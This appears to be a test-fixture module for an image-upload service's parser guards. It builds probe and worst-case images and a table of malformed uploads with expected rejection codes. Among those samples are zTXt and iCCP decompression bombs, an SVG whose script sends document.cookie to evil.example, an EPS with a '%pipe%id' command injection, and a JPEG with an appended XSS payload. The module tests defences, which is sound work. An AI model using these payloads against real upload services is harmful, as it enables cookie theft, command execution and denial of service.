def _exif_entries(n: int) -> bytes:
    return after_soi(jpeg_image(), exif_segment(tiff([(0x1000 + i % 60000, 3, 1, 0) for i in range(n)])))


def _exif_value_bytes(n: int) -> bytes:
    """Entries that each read all of one 32 KiB blob, and one more for the remainder."""
    blob = 32 * 1024
    sizes = [blob] * (n // blob) + [n % blob]
    if 0 < sizes[-1] <= 4:  # values of 4 bytes or less sit in the entry: fold them into a full read
        sizes[-2:] = [blob + sizes[-1]]
    offset = tiff_blob_offset(len(sizes))
    directory = [(0x1000 + i, 7, size, offset) for i, size in enumerate(sizes)]
    return after_soi(jpeg_image(), exif_segment(tiff(directory, b"\x00" * (blob + 8))))


def _png_extra(metric: str, extra: Callable[[int], bytes]) -> Callable[[int], bytes]:
    def build(n: int) -> bytes:
        return png_image(before=extra(n - counted(png_image(), "PNG", metric)))

    return build


def _gif_extra(metric: str, extra: Callable[[int], bytes]) -> Callable[[int], bytes]:
    def build(n: int) -> bytes:
        return with_gif_blocks(gif_image(), extra(n - counted(gif_image(), "GIF", metric)))

    return build


def _canvas_with_one_frame(ratio: int) -> tuple[int, int]:
    """A canvas 1024 px wide, ratio x 65,536 px in all: ratio times a 256x256 frame (and > 1 MP)."""
    return 1024, 64 * ratio


def grid_shape(tiles: int) -> tuple[int, int]:
    """Rows and columns (each at most 256) for that many tiles: the squarest such pair."""
    rows = max(r for r in range(1, 257) if tiles % r == 0 and tiles // r <= 256 and r * r <= tiles)
    return rows, tiles // rows


def _grid_decoded_ratio(ratio: int) -> bytes:
    """A 2x2 grid of 1024 px tiles (4 MP decoded) making an image `ratio` times smaller."""
    return grid(2, 2, declared=1024, output=(2048, 2048 // ratio))


def _coded_units(n: int) -> bytes:
    config, data = coded_image(b"av01", 64)
    padding = b"\x7a\x00" * (n - len(obus(data)))  # OBU_PADDING of size 0
    return iso_file(b"avif", [Item(b"av01", data + padding, [config, ispe(64, 64)])])


def obus(data: bytes) -> list[bytes]:
    """The OBUs of an AV1 item (each with a size field, as AVIF requires), header included."""
    units, pos = [], 0
    while pos < len(data):
        start, pos = pos, pos + 1 + (data[pos] >> 2 & 1)
        size = shift = 0
        while True:
            byte = data[pos]
            pos += 1
            size |= (byte & 0x7F) << shift
            shift += 7
            if not byte & 0x80:
                break
        pos += size
        units.append(data[start:pos])
    return units


def _coded_pictures(n: int) -> bytes:
    config, data = coded_image(b"av01", 64)
    frame = next(unit for unit in obus(data) if unit[0] >> 3 & 15 == 6)  # OBU_FRAME
    return iso_file(b"avif", [Item(b"av01", data + frame * (n - 1), [config, ispe(64, 64)])])


def _metadata_bytes(n: int) -> bytes:
    config, data = coded_image(b"av01", 64)
    header = b"\x00\x00\x00\x00" + tiff([(0x0112, 3, 1, 1)])  # no offset, then the TIFF
    exif = Item(b"Exif", header + b"\x00" * (n - len(header)))
    return iso_file(b"avif", [Item(b"av01", data, [config, ispe(64, 64)]), exif], [(b"cdsc", 2, [1])])


def _items(n: int) -> bytes:
    config, data = coded_image(b"av01", 64)
    return iso_file(b"avif", [Item(b"av01", data, [config, ispe(64, 64)])] + [Item(b"mime") for _ in range(n - 1)])


def _references(n: int) -> bytes:
    """An XMP item that describes the image over and over (a reference per mention)."""
    config, data = coded_image(b"av01", 64)
    items = [Item(b"av01", data, [config, ispe(64, 64)]), Item(b"mime", b"<x:xmpmeta/>")]
    base = counted(iso_file(b"avif", items), "AVIF", "bmff.references")
    return iso_file(b"avif", items, [(b"cdsc", 2, [1] * (n - base))])


def _boxes(n: int) -> bytes:
    base = counted(still(), "AVIF", "bmff.boxes")
    return still(extra=box(b"free", b"") * (n - base))


PROBES: dict[str, Probe] = {
    "jpeg.scans": Probe("JPEG", lambda n: with_scans(jpeg_image(64, 64, "L", progressive=True), n)),
    "jpeg.scan_blocks": Probe(
        "JPEG",
        lambda n: with_scans(with_frame_size(jpeg_image(64, 64, "L", progressive=True), 8000, 8008), n // 1_001_000),
        step=1_001_000,
    ),
    "jpeg.tables": Probe("JPEG", _jpeg_extra("jpeg.tables", lambda k: segment(0xDD, b"\x00\x00") * k)),
    "jpeg.metadata_segments": Probe("JPEG", _jpeg_extra("jpeg.metadata_segments", lambda k: segment(0xFE, b"") * k)),
    "jpeg.metadata_bytes": Probe("JPEG", _jpeg_extra("jpeg.metadata_bytes", app_segments)),
    "jpeg.exif_segments": Probe("JPEG", lambda n: after_soi(jpeg_image(), segment(0xE1, b"Exif\x00\x00") * n)),
    "jpeg.photoshop_resources": Probe("JPEG", lambda n: after_soi(jpeg_image(), photoshop_segments(n))),
    "jpeg.padding_bytes": Probe("JPEG", lambda n: after_soi(jpeg_image(), b"\xff" * n)),
    "exif.entries": Probe("JPEG", _exif_entries),
    "exif.value_bytes": Probe("JPEG", _exif_value_bytes),
    "icc.bytes": Probe("JPEG", lambda n: after_soi(jpeg_image(), icc_segments(n))),
    "icc.elements": Probe("JPEG", lambda n: with_icc(jpeg_image(), icc_profile(elements=n))),
    "png.chunks": Probe("PNG", lambda n: png_image(idat=split_idat(64, 64, n - 2))),
    "png.ancillary_chunks": Probe("PNG", _png_extra("png.ancillary_chunks", lambda k: chunk(b"abCd") * k)),
    "png.text_chunks": Probe("PNG", lambda n: png_image(before=chunk(b"tEXt", b"k\x00v") * n)),
    "png.iccp_chunks": Probe(
        "PNG", lambda n: png_image(before=chunk(b"iCCP", b"p\x00\x00" + zlib.compress(b"\x00" * 100)) * n)
    ),
    "png.metadata_bytes": Probe("PNG", lambda n: png_image(before=chunk(b"abCd", b"\x00" * n))),
    "png.frames": Probe("PNG", apng),
    "gif.frames": Probe("GIF", gif_frames),
    "gif.blocks": Probe("GIF", _gif_extra("gif.blocks", lambda k: b"\x21\xf9\x04\x00\x00\x00\x00\x00" * k)),
    "gif.sub_blocks": Probe("GIF", _gif_extra("gif.sub_blocks", lambda k: extension(0xFF, b"x" * k, 1))),
    "gif.comments": Probe("GIF", lambda n: with_gif_blocks(gif_image(), comment(b"A") * n)),
    "gif.comment_bytes": Probe("GIF", lambda n: with_gif_blocks(gif_image(), comment(b"A" * n))),
    "gif.metadata_bytes": Probe("GIF", lambda n: with_gif_blocks(gif_image(), extension(0xFF, b"x" * n))),
    "gif.padding_bytes": Probe("GIF", lambda n: with_gif_blocks(gif_image(), b"\x00" * n)),
    "gif.canvas_ratio": Probe("GIF", lambda n: with_screen(gif_image(256, 256), *_canvas_with_one_frame(n))),
    "webp.chunks": Probe("WEBP", lambda n: riff([vp8x(1, 1), *[riff_chunk(b"ABCD", b"")] * (n - 2), webp_bitstream()])),
    "webp.frames": Probe(
        "WEBP", lambda n: animated_webp((64, 64), [animation_frame(0, 0, 1, 1, webp_bitstream())] * n)
    ),
    "webp.metadata_bytes": Probe(
        "WEBP", lambda n: riff([vp8x(1, 1), riff_chunk(b"ABCD", b"\x00" * n), webp_bitstream()])
    ),
    "webp.canvas_ratio": Probe(
        "WEBP",
        lambda n: animated_webp(_canvas_with_one_frame(n), [animation_frame(0, 0, 256, 256, webp_bitstream(256, 256))]),
    ),
    "bmff.boxes": Probe("AVIF", _boxes),
    "bmff.depth": Probe("AVIF", lambda n: still(extra=nested_boxes(n))),
    "bmff.items": Probe("AVIF", _items),
    "bmff.references": Probe("AVIF", _references),
    "bmff.tiles": Probe("AVIF", lambda n: grid(*grid_shape(n), distinct=64)),
    "bmff.decoded_ratio": Probe("AVIF", _grid_decoded_ratio),
    "bmff.units": Probe("AVIF", _coded_units),
    "bmff.pictures": Probe("AVIF", _coded_pictures),
    "bmff.metadata_bytes": Probe("AVIF", _metadata_bytes),
}


def _worst_scans() -> bytes:
    """100 scans of a 50 MP colour image (4:4:4): its last, a luma refinement, repeated."""
    return with_scans(jpeg_image(8660, 5773, "RGB", progressive=True), GUARDS["jpeg.scans"].limit)


def _worst_scan_blocks() -> bytes:
    """As many interleaved DC scans of a 50 MP colour image (4:4:4) as the block guard allows."""
    base = jpeg_image(8660, 5773, "RGB", progressive=True)
    scans = len(split_scans(base)[1])
    blocks = counted(base, "JPEG", "jpeg.scan_blocks")
    per_scan = counted(with_scans(base, scans + 1, repeat=0), "JPEG", "jpeg.scan_blocks") - blocks
    return with_scans(base, scans + (GUARDS["jpeg.scan_blocks"].limit - blocks) // per_scan, repeat=0)


def _frame_area_sixteenth() -> tuple[int, int, int, int]:
    """A 50 MP canvas (12000 x 4166) and the frame that covers 1/16 of it: the widest legal gap."""
    return 12_000, 4166, 3000, 1042


def _worst_gif_canvas() -> bytes:
    width, height, frame_width, frame_height = _frame_area_sixteenth()
    return with_screen(gif_image(frame_width, frame_height), width, height)


def _worst_webp_canvas() -> bytes:
    width, height, frame_width, frame_height = _frame_area_sixteenth()
    frame = animation_frame(0, 0, frame_width, frame_height, webp_bitstream(frame_width, frame_height))
    return animated_webp((width, height), [frame])


# The most expensive file each guard still accepts, where that is heavier than PROBES[guard].build(limit).
# Grids: libavif and libheif refuse a grid that names a tile twice, and libheif reads at most 1,000
# items, so the largest grid they decode has 992 distinct tiles.
WORST: dict[str, Callable[[], bytes]] = {
    "jpeg.scans": _worst_scans,
    "jpeg.scan_blocks": _worst_scan_blocks,
    "bmff.tiles": lambda: grid(31, 32, b"hvc1"),
    # A valid grid cannot reach 4x its image with more than one tile (no tile may lie wholly
    # outside it); a single tile can: a 4 MP tile cropped to 1 MP.
    "bmff.decoded_ratio": lambda: grid(1, 1, tile=2048, output=(1024, 1024)),
    "gif.canvas_ratio": _worst_gif_canvas,
    "webp.canvas_ratio": _worst_webp_canvas,
}

_LIMIT_SIZE = (8660, 5773)  # just under MAX_PIXELS (50 MP)

# The worst legal file of each format: the most pixels allowed, with the costliest coding its encoders
# here can make (alpha, no chroma subsampling, every scan the guard allows), for the guards docs.
WORST_BY_FORMAT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "JPEG": ("50 MP progressive 4:4:4, 100 scans", _worst_scans),
    "PNG": ("50 MP RGBA", lambda: encode(images.gradients(*_LIMIT_SIZE, "RGBA"), "PNG", compress_level=1)),
    "GIF": ("50 MP", lambda: gif_image(*_LIMIT_SIZE)),
    "WEBP": ("50 MP RGBA", images.large_webp),
    "AVIF": (
        "50 MP RGBA 4:4:4",
        lambda: encode(images.gradients(*_LIMIT_SIZE, "RGBA"), "AVIF", quality=30, speed=10, subsampling="4:4:4"),
    ),
    "HEIF": (
        "50 MP shown of 67 MP of 4:4:4 tiles, with alpha",
        lambda: heif_image(Coded(4096, 2, 2), Coded(4096, 2, 2, alpha=True), crop=(8192, 6100)),
    ),
}


# ---------------------------------------------------------------- malformed and unsupported uploads
def ihdr(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))


def png_from_chunks(width: int, height: int, *middle: bytes, idat: bytes | None = None) -> bytes:
    if idat is None:
        idat = zlib.compress(b"\x00" + b"\x00" * width * 3)  # one real row is enough to be a PNG
    return PNG_SIGNATURE + ihdr(width, height) + b"".join(middle) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def zero_png(width: int, height: int) -> bytes:
    """A complete, valid, all-black RGB PNG: tiny on disk, huge in memory (9000x9000 is ~236 KB)."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width * 3 + 1)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return png_from_chunks(width, height, idat=body)


def ztxt_bomb() -> bytes:
    """A zTXt chunk that inflates to 100 MB of text."""
    payload = b"Comment\x00\x00" + zlib.compress(b"A" * 100_000_000, 9)
    return png_from_chunks(64, 64, chunk(b"zTXt", payload))


def iccp_bomb() -> bytes:
    """An iCCP 'profile' that inflates to 100 MB."""
    payload = b"evil\x00\x00" + zlib.compress(b"\x00" * 100_000_000, 9)
    return png_from_chunks(64, 64, chunk(b"iCCP", payload))


def corrupt_idat() -> bytes:
    """Valid chunk structure, but the deflate stream inside IDAT is broken."""
    data = bytearray(images.png(200, 150))
    start = data.index(b"IDAT") + 4
    data[start + 2 : start + 400] = b"\xff" * 398  # after the zlib header: an invalid block type
    return bytes(data)


def many_frame_gif(frames: int, width: int = 1000, height: int = 1000) -> bytes:
    """An animated GIF of `frames` full-size frames, each a few bytes of LZW (clear, end)."""
    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = (
        b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control: 100 ms
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02\x01\x2c\x00"  # LZW min size 2; one sub-block holding codes clear(4), end(5)
    )
    return b"GIF89a" + screen + frame * frames + b"\x3b"


def frames_off_the_screen(frames: int, distance: int = 60_000) -> bytes:
    """A 64 px GIF whose later 1x1 frames sit `distance` px right of and below its screen."""
    head, rest = gif_parts(gif_image(64, 64))
    tiny = bytearray(gif_parts(gif_image(1, 1))[1][:-1])
    struct.pack_into("<HH", tiny, tiny.index(b"\x2c") + 1, distance, distance)
    return head + rest[:-1] + bytes(tiny) * (frames - 1) + b"\x3b"


@cache
def flat_frames_gif(frames: int, size: int = 1000) -> bytes:
    """Valid full-size frames of flat colour, alternating: a few bytes of LZW each, a megapixel
    decoded each. Pillow encodes two; their frames are repeated (Pillow took 6 s for 150)."""
    colours = [Image.new("P", (size, size), i) for i in range(2)]
    for image in colours:
        image.putpalette([0, 0, 0, 255, 255, 255])
    two = encode(colours[0], "GIF", save_all=True, append_images=colours[1:], duration=40)
    head, rest = gif_parts(two)
    lead, first, second = gif_frame_blocks(rest)
    return head + lead + (first + second) * (frames // 2) + first * (frames % 2) + b"\x3b"


def gif_frame_blocks(blocks: bytes) -> tuple[bytes, ...]:
    """A GIF's blocks after its colour table, split into what precedes the first frame (application
    extensions) and each frame with the extensions before it; the trailer dropped."""

    def sub_blocks_end(at: int) -> int:
        while blocks[at]:
            at += blocks[at] + 1
        return at + 1

    parts: list[bytes] = []
    start = at = 0
    while blocks[at] != 0x3B:
        if blocks[at] == 0x21:  # extension: label, sub-blocks
            if blocks[at + 1] == 0xFF and not parts:  # an application extension belongs to the file
                at = sub_blocks_end(at + 2)
                parts.append(blocks[start:at])
                start = at
                continue
            at = sub_blocks_end(at + 2)
        elif blocks[at] == 0x2C:  # image: descriptor, local colour table, LZW size, sub-blocks
            flags = blocks[at + 9]
            at += 10 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)
            at = sub_blocks_end(at + 1)
            if not parts:
                parts.append(b"")
            parts.append(blocks[start:at])
            start = at
        else:
            raise ValueError(f"not a GIF block at {at}: {blocks[at]:#x}")
    return tuple(parts)


@cache  # 2 s to encode, and several tests ask for it
def many_frame_webp(frames: int, size: int = 1000) -> bytes:
    """Alternating full-size frames (identical ones would be merged by the encoder)."""
    dark, light = Image.new("RGB", (size, size), (10, 20, 30)), Image.new("RGB", (size, size), (200, 210, 220))
    rest = [light if i % 2 == 0 else dark for i in range(frames - 1)]
    return images.encode(dark, "WEBP", save_all=True, append_images=rest, duration=50, quality=10, method=0)


def palette_png_without_plte() -> bytes:
    return png_from_chunks(16, 16, idat=zlib.compress(b"\x00" * 17 * 16)).replace(ihdr(16, 16), ihdr(16, 16, colour=3))


def metadata_item_of_type(kind: bytes) -> bytes:
    """A 64 px HEIC described by an Exif-like item of type `kind` (pi-heif reads its type as text)."""
    config, data = coded_image(b"hvc1", 64)
    exif = Item(kind, b"\x00\x00\x00\x00" + tiff([(0x0112, 3, 1, 1)]))
    return iso_file(b"heic", [Item(b"hvc1", data, [config, ispe(64, 64)]), exif], [(b"cdsc", 2, [1])])


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b'<script type="text/javascript">fetch("https://evil.example/"+document.cookie)</script>'
        b'<rect width="100" height="100" fill="red"/></svg>'
    )


def eps() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(%pipe%id) (w) file\nshowpage\n"


def psd() -> bytes:
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 100, 100, 8, 3)
    return header + struct.pack(">I", 0) * 3 + struct.pack(">H", 0) + b"\x00" * (100 * 100 * 3)


def ico() -> bytes:
    return images.encode(images.photo(32, 32), "ICO")


def tiff_file() -> bytes:
    return images.encode(images.photo(64, 64), "TIFF")


def bmp() -> bytes:
    return images.encode(images.photo(64, 64), "BMP")


def jpeg_with_html() -> bytes:
    return images.jpeg(400, 300) + b"<html><body><script>alert(document.domain)</script></body></html>"


# name -> (builder, expected failure code). Shared by the image-core and the handler tests.
REJECTED: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "empty"),
    "random-bytes-named-jpg": (lambda: bytes(range(256)) * 40, "not_an_image"),
    "png-header-100000x100000": (lambda: images.png_header(100_000, 100_000), "too_many_pixels"),
    "png-header-10000x10000": (lambda: images.png_header(10_000, 10_000), "too_many_pixels"),
    "png-header-1e8x1": (lambda: images.png_header(10**8, 1), "too_many_pixels"),
    "png-header-12001x100": (lambda: images.png_header(12_001, 100), "dimensions_too_large"),
    "zero-png-9000x9000": (lambda: zero_png(9000, 9000), "too_many_pixels"),
    "ztxt-bomb": (ztxt_bomb, "decompression_bomb"),
    "iccp-bomb": (iccp_bomb, "decompression_bomb"),
    "truncated-jpeg": (lambda: images.jpeg(800, 600)[:5000], "truncated"),
    "corrupt-idat": (corrupt_idat, "corrupt"),
    "gif-300-frames-1mp": (lambda: many_frame_gif(300), "too_many_frames"),
    "apng-150-frames-1mp": (lambda: apng(150, 1000), "too_many_frames"),
    "webp-120-frames-1mp": (lambda: many_frame_webp(120), "too_many_frames"),
    # Issue #26: animations are decoded frame by frame now; these still end failed before any of that.
    "gif-many-tiny-frames": (lambda: gif_frames(25_000), "too_many_frames"),
    "gif-frames-off-the-screen": (lambda: frames_off_the_screen(1000), "corrupt"),
    "gif-150-flat-frames-1mp": (lambda: flat_frames_gif(150), "too_many_frames"),
    "tiff": (tiff_file, "unsupported_format"),
    "bmp": (bmp, "unsupported_format"),
    "ico": (ico, "unsupported_format"),
    "psd": (psd, "unsupported_format"),
    "eps": (eps, "unsupported_format"),
    "svg-with-script": (svg_with_script, "unsupported_format"),
    # Refused by the structure walk, before Pillow parses them (ATTACKS above, docs/guards.md).
    "jpeg-5000-scans": (lambda: ATTACKS["jpeg-repeated-scans"].build(5000), "too_many_scans"),
    "jpeg-2mb-of-small-exif-segments": (lambda: ATTACKS["jpeg-small-exif-segments"].build(20_000), "too_much_metadata"),
    "jpeg-1m-empty-app1": (lambda: ATTACKS["jpeg-empty-app1"].build(1_000_000), "too_much_metadata"),
    "jpeg-mpf-overlapping-values": (lambda: ATTACKS["jpeg-mpf-overlapping-values"].build(1), "too_much_metadata"),
    "png-repeated-iccp": (lambda: ATTACKS["png-repeated-iccp"].build(100), "too_much_metadata"),
    "icc-1000-pipeline-elements": (lambda: ATTACKS["icc-repeated-pipeline-elements"].build(1000), "too_much_metadata"),
    "gif-long-comment": (lambda: ATTACKS["gif-long-comment"].build(1_000_000), "too_much_metadata"),
    "gif-huge-screen": (lambda: ATTACKS["gif-huge-screen"].build(4166), "canvas_too_large"),
    "webp-huge-canvas": (lambda: ATTACKS["webp-huge-canvas"].build(4166), "canvas_too_large"),
    # Issue #23: pi-heif crashed on the first; Pillow failed an assertion on the second.
    "heif-exif-type-not-text": (lambda: metadata_item_of_type(b"Exi\xff"), "corrupt"),
    "png-palette-without-plte": (palette_png_without_plte, "corrupt"),
    "heif-clap-over-30-tiles-with-alpha": (
        lambda: ATTACKS["heif-clap-over-tiles-with-alpha"].build(5),
        "too_many_pixels",
    ),
    "heif-alpha-larger-than-image": (lambda: ATTACKS["heif-alpha-larger-than-image"].build(5), "too_many_pixels"),
    "heif-clap-over-one-picture": (lambda: ATTACKS["heif-clap-over-one-picture"].build(4096), "too_many_pixels"),
}
